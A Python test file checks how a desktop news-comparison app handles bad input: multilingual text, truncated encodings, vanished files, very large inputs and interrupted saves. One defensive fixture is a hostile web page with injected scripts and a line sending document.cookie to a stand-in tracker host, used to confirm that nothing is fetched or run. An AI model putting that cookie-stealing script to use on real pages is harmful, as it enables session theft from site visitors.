"""Bad input, end to end: every case gives a clear message or a usable result, and loses nothing.

These complete tests/io/test_loading.py, which already covers, one file at a time: empty and
whitespace-only files, binary files named .txt, PDF, stray bytes in UTF-8, UTF-16/32 with and
without a byte-order mark, cp1252 and Latin-1, web pages without an article, remote scripts and
images in a page (with the network refused), a file deleted after it was chosen, a folder given
as a file, an unreadable file (not as root), files over the size limit, and the same file twice.
Here: what happens next (aligning what loaded), large and many inputs, other scripts, the cases
above that need a folder or a script, and a save killed half-way through.
"""

from __future__ import annotations

import os
import random
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from desktop.core.align import align
from desktop.core.comparison import IDENTICAL, SentenceRef
from desktop.core.errors import InputError, LoadError
from desktop.core.loading import MAX_BYTES, load_article, load_articles
from desktop.core.workspace import Workspace
from tests.conftest import MAIN_SET, ROOT
from tests.helpers import write

R = SentenceRef

STORY = (
    "European leaders met President Donald Trump at the White House on Monday.\n\n"
    "The talks on security guarantees for Ukraine lasted more than two hours.\n\n"
    "A follow-up call is planned for next week, two diplomats said.\n"
)


def refused(path: Path) -> str:
    with pytest.raises(LoadError) as info:
        load_article(path, "a1")
    assert info.value.path == str(path)
    return info.value.reason


# -- tiny, identical and repeated inputs ----------------------------------------------------------


def test_a_one_sentence_article_loads_and_aligns(tmp_path: Path) -> None:
    one = write(tmp_path, "brief.txt", "Trump met European leaders at the White House on Monday.")
    paths = [one, write(tmp_path, "story.txt", STORY)]
    articles = load_articles(paths)
    assert len(articles[0].sentences) == 1
    comparison = align(articles)
    assert comparison.counterpart(R("a1", 0), "a2") == R("a2", 0)


def test_two_identical_articles_link_every_sentence_as_identical(tmp_path: Path) -> None:
    text = sorted(MAIN_SET.glob("*.md"))[0].read_bytes()
    articles = load_articles([write(tmp_path, "one.md", text), write(tmp_path, "two.md", text)])
    comparison = align(articles)
    first = articles[0]
    linked = [s for s in first.sentences if s.kind != "dateline"]  # datelines never link
    assert len(comparison.links) == len(linked) > 10
    for link in comparison.links:
        assert link.relation == IDENTICAL and link.score == 100
        assert link.a.sentence == link.b.sentence
    datelines = {R(a.id, s.index) for a in articles for s in a.sentences if s.kind == "dateline"}
    assert all(len(c.members) == 2 for c in comparison.claims if c.members[0] not in datelines)


def test_the_same_file_added_twice_names_it_and_loads_nothing(tmp_path: Path) -> None:
    path = write(tmp_path, "story.txt", STORY)
    other = write(tmp_path, "other.txt", STORY)
    with pytest.raises(InputError, match=r"given twice: .*story\.txt"):
        load_articles([path, other, Path(str(path))])
    assert path.read_text(encoding="utf-8") == STORY  # nothing touched


# -- encodings the loader must not garble -------------------------------------------------------


def test_utf8_cut_mid_character_keeps_the_text(tmp_path: Path) -> None:
    # A download cut short ends in half a Cyrillic letter: keep every whole letter, not mojibake.
    text = "Київ заявив про нові гарантії безпеки. Переговори тривали дві години."
    path = write(tmp_path, "cut.txt", text.encode()[:-2])
    article = load_article(path, "a1")
    assert article.text.startswith("Київ заявив про нові гарантії безпеки.")
    assert "\ufffd" in article.text
    assert len(article.sentences) == 2


# -- other scripts ---------------------------------------------------------------------------------

UKRAINIAN = (
    "Президент України зустрівся з європейськими лідерами у Вашингтоні. "
    "Сторони обговорили гарантії безпеки та постачання зброї. "
    "Наступна зустріч запланована на вересень."
)
UKRAINIAN_COPY = (
    "Сторони обговорили гарантії безпеки і постачання зброї, повідомили дипломати. "
    "У Києві цього дня було сонячно."
)
RUSSIAN = (
    "Кремль отверг предложение о прекращении огня. "
    "Переговоры продолжатся на следующей неделе. "
    "Министр заявил, что позиция не изменилась."
)
RUSSIAN_COPY = "Переговоры продолжатся на следующей неделе, сообщили в министерстве."
ARABIC = (
    "التقى الرئيس بالقادة الأوروبيين في واشنطن. "
    "ناقش الطرفان الضمانات الأمنية. "
    "هل ستعقد الجولة المقبلة في سبتمبر؟"
)
ARABIC_COPY = "ناقش الطرفان الضمانات الأمنية يوم الاثنين."


@pytest.mark.parametrize(
    ("text", "copy", "sentence"),
    [(UKRAINIAN, UKRAINIAN_COPY, 1), (RUSSIAN, RUSSIAN_COPY, 1), (ARABIC, ARABIC_COPY, 1)],
    ids=["ukrainian", "russian", "arabic"],
)
def test_other_scripts_segment_and_align(
    tmp_path: Path, text: str, copy: str, sentence: int
) -> None:
    paths = [write(tmp_path, "first.txt", text), write(tmp_path, "second.txt", copy)]
    first, second = load_articles(paths)
    assert first.text == text  # right-to-left text kept in logical order, untouched
    assert len(first.sentences) >= 3 if "؟" not in text else len(first.sentences) >= 2
    for article in (first, second):
        for s in article.sentences:
            assert article.text[s.start : s.end] == s.text
    comparison = align([first, second])
    link = comparison.link_between(R("a1", sentence), R("a2", 0))
    assert link is not None, [k.to_dict() for k in comparison.links]
    assert link.relation != IDENTICAL


def test_mixed_scripts_in_one_comparison(tmp_path: Path) -> None:
    paths = [write(tmp_path, f"{n}.txt", t) for n, t in (("uk", UKRAINIAN), ("ar", ARABIC))]
    paths.append(write(tmp_path, "en.txt", STORY))
    comparison = align(load_articles(paths))
    assert comparison.links == ()  # nothing in common, and nothing breaks


# -- web pages that reach out ----------------------------------------------------------------------

HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Guarantees | Meridian</title>
<meta http-equiv="refresh" content="0; url=http://elsewhere.example/">
<link rel="stylesheet" href="http://cdn.example/site.css">
<script src="https://cdn.example/app.js"></script>
<script>document.write("<p>INJECTED BY A SCRIPT into the article body.</p>");</script>
</head><body>
<article>
<h1>Leaders weigh guarantees for Ukraine</h1>
<p>European leaders met President Donald Trump at the White House on Monday.</p>
<img src="http://images.example/photo.jpg" srcset="http://images.example/big.jpg 2x">
<iframe src="http://video.example/embed/1"></iframe>
<p>The talks on security guarantees for Ukraine lasted more than two hours.</p>
<video src="http://video.example/clip.mp4" autoplay></video>
<p>A follow-up call is planned for next week, two diplomats said.</p>
<script>new Image().src = "http://tracker.example/pixel?" + document.cookie;</script>
</article></body></html>
"""


def test_remote_resources_are_never_fetched_and_scripts_never_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    page = write(tmp_path, "page.html", HOSTILE_PAGE)
    articles = load_articles([page, write(tmp_path, "story.txt", STORY)])
    assert attempts == []
    assert "INJECTED" not in articles[0].text
    assert "tracker" not in articles[0].text and "document" not in articles[0].text
    assert "lasted more than two hours" in articles[0].text
    assert len(align(articles).links) >= 2


# -- files that vanish or cannot be read -----------------------------------------------------------


def test_a_file_deleted_while_loading_stops_with_its_name(tmp_path: Path) -> None:
    paths = [write(tmp_path, f"{n}.txt", STORY) for n in ("one", "two", "three")]

    def delete_the_next(fraction: float, message: str) -> None:
        if fraction < 0.5:
            paths[1].unlink()  # chosen, then deleted before its turn came

    with pytest.raises(LoadError) as info:
        load_articles(paths, progress=delete_the_next)
    assert info.value.path == str(paths[1]) and info.value.reason == "file not found"
    assert paths[0].read_text(encoding="utf-8") == STORY


@pytest.mark.skipif(
    os.name != "posix" or os.geteuid() == 0,
    reason="root reads any folder; test_folder_without_permission_simulated covers this",
)
def test_folder_without_permission(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    path = write(folder, "story.txt", STORY)
    folder.chmod(0)
    try:
        assert refused(path) == "permission denied: cannot read this file"
    finally:
        folder.chmod(0o755)


def test_folder_without_permission_simulated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    path = write(folder, "story.txt", STORY)
    real_stat = Path.stat

    def stat(self: Path, *args: object, **kwargs: object) -> os.stat_result:
        if self.parent == folder:  # what the OS does when the folder cannot be searched
            raise PermissionError(13, "Permission denied", str(self))
        return real_stat(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Path, "stat", stat)
    assert refused(path) == "permission denied: cannot read this file"


# -- big and many ----------------------------------------------------------------------------------


def _big_text(size: int) -> str:
    rng = random.Random(7)
    words = (
        "leaders talks summit guarantees troops ceasefire drones border energy grain ports "
        "officials diplomats Kyiv Washington Brussels Moscow agreed rejected proposed said"
    ).split()
    parts: list[str] = []
    total = 0
    while total < size:
        s = " ".join(rng.choice(words) for _ in range(rng.randint(6, 18))).capitalize() + ". "
        if rng.random() < 0.2:
            s += "\n\n"
        parts.append(s)
        total += len(s)
    return "".join(parts)


def test_a_20_mb_file_loads_in_seconds_with_progress(tmp_path: Path) -> None:
    assert MAX_BYTES > 20 * 1024 * 1024  # under the limit, so it must load (not be refused)
    big = write(tmp_path, "big.txt", _big_text(20 * 1024 * 1024))
    seen: list[tuple[float, str]] = []
    started = time.perf_counter()
    [article] = load_articles([big], progress=lambda f, m: seen.append((f, m)))
    elapsed = time.perf_counter() - started
    print(f"\n20 MB text file: {len(article.sentences)} sentences loaded in {elapsed:.1f} s")
    assert len(article.sentences) > 200_000
    # Progress all the way through the file (every 64 KB), not only once it is loaded.
    during = [f for f, m in seen if m == "Reading big.txt"]
    assert len(during) > 100 and during == sorted(during) and during[-1] < 1
    assert seen[-1] == (1.0, "Loaded big.txt (1 of 1)")
    assert elapsed < 30  # measured: about 3 s on 2 cores
    s = article.sentences[-1]
    assert article.text[s.start : s.end] == s.text


def test_forty_articles_align(tmp_path: Path) -> None:
    # Forty outlets drawing on one pool of sentences (from the project's own sample set).
    pool = [
        s.text
        for a in load_articles(sorted(MAIN_SET.glob("*.md")))
        for s in a.sentences
        if s.kind == "body"
    ]
    rng = random.Random(3)
    paths = []
    for k in range(40):
        picked = rng.sample(pool, 25)
        body = "\n\n".join(" ".join(picked[i : i + 3]) for i in range(0, len(picked), 3))
        paths.append(write(tmp_path, f"outlet-{k:02}.txt", body + "\n"))
    started = time.perf_counter()
    articles = load_articles(paths)
    loaded = time.perf_counter() - started
    comparison = align(articles)
    aligned = time.perf_counter() - started - loaded
    print(
        f"\n40 articles, {comparison.sentence_count} sentences: loaded in {loaded:.1f} s, "
        f"aligned in {aligned:.1f} s, {len(comparison.links)} links, "
        f"{len(comparison.multi_claims)} shared claims"
    )
    assert len(comparison.links) > 1000
    assert max(len(c.members) for c in comparison.claims) > 5
    for claim in comparison.claims:
        assert len(set(claim.outlets)) == len(claim.outlets)
    assert aligned < 30


# -- a save killed half-way ------------------------------------------------------------------------

# Saves two large workspaces in turn, forever. The JSON is made once: `Workspace.save` is exactly
# `write_text_atomic(path, to_json())`, and with the JSON ready nearly all the time goes to
# writing, so the kills land mid-write rather than while the JSON is being built.
SAVER = """
import itertools, random, sys
sys.path.insert(0, sys.argv[2])
from pathlib import Path
from desktop.core.files import write_text_atomic
from desktop.core.workspace import Workspace
from tests.helpers import make_article

rng = random.Random(0)
words = "leaders talks summit guarantees troops ceasefire drones border energy grain".split()
articles = tuple(
    make_article(f"a{k}", [" ".join(rng.choices(words, k=16)) + "." for _ in range(1500)])
    for k in range(1, 9)
)
Workspace("save 0", articles).save(sys.argv[1])
print(0, flush=True)
texts = [Workspace(f"save {i}", articles).to_json() for i in (1, 2)]
for i in itertools.count(1):
    write_text_atomic(Path(sys.argv[1]), texts[i % 2])
    print(i, flush=True)
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
def test_a_save_killed_half_way_leaves_the_previous_file(tmp_path: Path) -> None:
    path = tmp_path / "big.parallax"
    rng = random.Random()
    names: set[str] = set()
    leftovers = 0
    for _ in range(6):
        saver = subprocess.Popen(
            [sys.executable, "-c", SAVER, str(path), str(ROOT)],
            stdout=subprocess.PIPE,
            text=True,
        )
        try:
            assert saver.stdout is not None
            first = saver.stdout.readline()  # one save has finished: the file exists
            assert first.strip().isdigit(), "the saving process failed to start"
            time.sleep(rng.uniform(0.0, 0.6))
        finally:
            saver.send_signal(signal.SIGKILL)
            saver.wait()
            if saver.stdout is not None:
                saver.stdout.close()
        workspace = Workspace.load(path)  # never half a file
        assert workspace.name.startswith("save ")
        assert len(workspace.articles) == 8
        assert all(len(a.sentences) == 1500 for a in workspace.articles)
        names.add(workspace.name)
        # A temporary file left behind shows the kill came mid-write; clear it for the next round.
        for tmp in tmp_path.glob("*.tmp"):
            leftovers += 1
            tmp.unlink()
    print(f"\nkilled 6 savers; workspaces found: {sorted(names)}; killed mid-write: {leftovers}")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.parallax"]
